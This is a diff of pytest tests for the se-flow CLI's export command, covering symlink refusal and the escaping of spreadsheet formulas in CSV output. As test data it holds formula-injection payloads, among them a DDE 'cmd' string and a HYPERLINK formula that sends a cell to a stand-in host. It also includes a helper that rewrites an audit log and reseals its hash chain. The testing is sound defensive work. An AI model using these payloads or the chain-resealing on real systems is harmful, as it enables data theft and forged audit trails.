@@ -22,12 +22,13 @@ from typing import Any
 
 import pytest
 import typer.main
-from helpers import drop_triggers
+from helpers import LEAST_EVIDENCE, drop_triggers
 from rich.console import Console
-from test_cli import CLI, STAFF, event_count, ok, refer, refused, walk
+from test_cli import CLI, EXTRA, STAFF, event_count, ok, refer, refused, walk
 
 import se_flow
 import se_flow.cli as cli
+from se_flow._audit import GENESIS, row_hash
 from se_flow.cli import app
 
 FORMATS = ["csv", "jsonl", "json"]
@@ -289,6 +290,28 @@ def test_bad_export_requests_exit_5_naming_what_is_wrong(
     assert event_count(db) == before
 
 
+@pytest.mark.parametrize("points_at", ["folder", "nowhere"])
+def test_a_symbolic_link_is_refused_saying_it_is_one(
+    run: CLI, db: Path, tmp_path: Path, points_at: str
+) -> None:
+    real = tmp_path / "real"
+    if points_at == "folder":
+        real.mkdir()
+    link = tmp_path / "review"
+    link.symlink_to(real)
+    before = event_count(db)
+    refused(
+        run("export", str(link), "--force"),
+        5,
+        f"cannot export to {link}: it is a symbolic link (to {real})",
+    )
+    assert link.is_symlink() and event_count(db) == before
+    assert not real.exists() or list(real.iterdir()) == []
+    assert leftovers(tmp_path) == []
+    (tmp_path / "plain").write_text("x")
+    refused(run("export", str(tmp_path / "plain")), 5, "it exists and is not a folder")
+
+
 def test_a_missing_parent_folder_is_refused(run: CLI, tmp_path: Path) -> None:
     refused(run("export", str(tmp_path / "no" / "such")), 5, "does not exist")
 
@@ -539,43 +562,57 @@ def test_json_paths_do_not_import_rich(db: Path, tmp_path: Path) -> None:
         assert not {name for name in imported if name.split(".")[0] == "rich"}, args
 
 
+# What a spreadsheet would run, typed where se-flow still takes it as it is.
+LINK = '=HYPERLINK("http://x","y")'
+CONTACT = "+44 1632 960000"
+SOURCE = "-GP"
+REASON = "+cmd|' /C calc'!A0"
+NOTE = "@SUM(1)"
+EMPLOYER = "=1+2"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cells(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8", newline="") as f:
+        return list(csv.reader(f))
+
+
 def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(
     run: CLI, db: Path, tmp_path: Path
 ) -> None:
-    link = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'
-    with se_flow.open(db) as flow:
-        try:
-            flow.add_staff("@ops", "Ops Desk", "coach", actor="ada")
-        except se_flow.InvalidInput:
-            pytest.skip("staff ids now refuse a leading formula character at entry")
-        case = flow.refer(
-            se_flow.PersonalDetails(name=link, contact="+44 7700 900999"),
-            source="GP",
-            coach="@ops",
-            actor="@ops",
+    with se_flow.open(db, actor="sam") as flow:
+        attack = flow.refer(
+            se_flow.PersonalDetails(name=LINK, contact=CONTACT),
+            source=SOURCE,
+            referral={"notes": NOTE},
         ).id
-        flow.advance(case, "engage", actor="@ops")
-        flow.pause(
-            case,
-            reason="+cmd|' /C calc'!A0",
-            review_date=dt.date.today() + dt.timedelta(days=14),
-            actor="@ops",
-        )
+        here = flow.case(attack).state
+        while here != "in_work_support":
+            forward = LEAST_EVIDENCE[here]
+            for kind, fields in forward.records:
+                typed = {**fields, **EXTRA.get(kind, {})}
+                flow.record(attack, kind, {k: EMPLOYER if k == "employer" else v
+                                           for k, v in typed.items()})  # fmt: skip
+            here = flow.advance(attack, forward.trigger).state
+        flow.pause(attack, reason=REASON, review_date=dt.date.today() + dt.timedelta(days=14))
+        gone = flow.refer("Cy Dunn", source="GP").id
+        flow.withdraw(gone, reason=REASON)
     out = tmp_path / "review"
     ok(run("export", str(out), "--include-personal-data", actor="ada"))
     rows = read_rows(out, "csv")
 
-    client = next(c for c in rows["clients"] if c["case_id"] == case)
-    assert client["name"] == "'" + link
-    assert client["contact"] == "'+44 7700 900999"
-    assert client["coach"] == "'@ops"
-    spells = [s for s in rows["stage_histories"] if s["case_id"] == case]
-    assert spells and {s["actor"] for s in spells} == {"'@ops"}
-    assert all(not v.startswith(("=", "+", "-", "@")) for s in spells for v in s.values())
+    client = next(c for c in rows["clients"] if c["case_id"] == attack)
+    assert client["name"] == "'" + LINK
+    assert client["contact"] == "'" + CONTACT
+    assert client["employer"] == "'" + EMPLOYER
+    for name in ("clients", "stage_histories"):
+        cells = [cell for row in csv_cells(out / f"{name}.csv") for cell in row]
+        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], name
     # events.csv stays exactly as stored, so it still re-verifies; the manifest says how to open.
-    events = [e for e in rows["events"] if e["case_id"] == case]
-    assert {e["actor"] for e in events} == {"@ops"}
-    assert "+cmd|' /C calc'!A0" in {e["reason"] for e in events}
+    events = [e for e in rows["events"] if e["case_id"] in (attack, gone)]
+    assert [e["reason"] for e in events if e["reason"] == REASON] == [REASON, REASON]
+    referral = json.loads(next(e for e in events if e["case_id"] == attack)["payload"])
+    assert SOURCE in json.dumps(referral) and NOTE in json.dumps(referral)
     assert "import" in manifest(out)["csv_safety"] and "events.csv" in manifest(out)["csv_safety"]
     ok(run("audit", "verify-export", str(out)))
     # Only CSV is escaped: JSON holds the text as it is.
@@ -590,5 +627,60 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(
         )
     )
     clients = read_rows(tmp_path / "as-json", "jsonl")["clients"]
-    assert next(c for c in clients if c["case_id"] == case)["name"] == link
+    assert next(c for c in clients if c["case_id"] == attack)["name"] == LINK
     assert "csv_safety" not in manifest(tmp_path / "as-json")
+
+
+def rename_staff_in_the_log(db: Path, old: str, new: str) -> None:
+    """Make `db` what an older se-flow, which took ids such as `@ops`, would have written:
+    `old` becomes `new` in every table and event, and the chain is sealed again over the
+    rewritten events (so verify and verify-export still pass)."""
+    with closing(sqlite3.connect(db, isolation_level=None)) as conn:
+        drop_triggers(conn)
+        conn.row_factory = sqlite3.Row
+        conn.execute("BEGIN")
+        conn.execute("UPDATE staff SET id = ? WHERE id = ?", (new, old))
+        conn.execute("UPDATE cases SET coach = ? WHERE coach = ?", (new, old))
+        conn.execute("UPDATE records SET actor = ? WHERE actor = ?", (new, old))
+        prev = GENESIS
+        for found in conn.execute("SELECT * FROM events ORDER BY seq").fetchall():
+            row = dict(found)
+            row["actor"] = new if row["actor"] == old else row["actor"]
+            row["payload"] = row["payload"].replace(json.dumps(old), json.dumps(new))
+            row["prev_hash"] = prev
+            row["hash"] = prev = row_hash(row)
+            conn.execute(
+                "UPDATE events SET actor = ?, payload = ?, prev_hash = ?, hash = ? WHERE seq = ?",
+                (row["actor"], row["payload"], row["prev_hash"], row["hash"], row["seq"]),
+            )
+        conn.execute("COMMIT")
+
+
+def test_a_legacy_staff_id_with_a_formula_start_is_escaped_where_it_is_shown(
+    run: CLI, db: Path, tmp_path: Path
+) -> None:
+    # Refused at entry now...
+    before = event_count(db)
+    refused(
+        run("staff", "add", "--name", "Ops Desk", "--role", "coach", "--", "@ops", actor="ada"),
+        5,
+        "'@ops' is not a valid staff id",
+    )
+    assert event_count(db) == before
+    # ...but a database from before keeps the ids it was given.
+    with se_flow.open(db, actor="ada") as flow:
+        flow.add_staff("opsdesk", "Ops Desk", "coach")
+        case = flow.refer("Di Ellis", source="GP", coach="opsdesk", actor="opsdesk").id
+        flow.advance(case, "engage", actor="opsdesk")
+    rename_staff_in_the_log(db, "opsdesk", "@opsdesk")
+    assert "ok" in ok(run("audit", "verify", actor="ada"))
+
+    out = tmp_path / "review"
+    ok(run("export", str(out), actor="ada"))
+    rows = read_rows(out, "csv")
+    spells = [s for s in rows["stage_histories"] if s["case_id"] == case]
+    assert len(spells) == 2 and {s["actor"] for s in spells} == {"'@opsdesk"}
+    assert next(c for c in rows["clients"] if c["case_id"] == case)["coach"] == "'@opsdesk"
+    events = [e for e in rows["events"] if e["case_id"] == case]
+    assert {e["actor"] for e in events} == {"@opsdesk"}  # as stored: it re-verifies
+    ok(run("audit", "verify-export", str(out), actor="ada"))
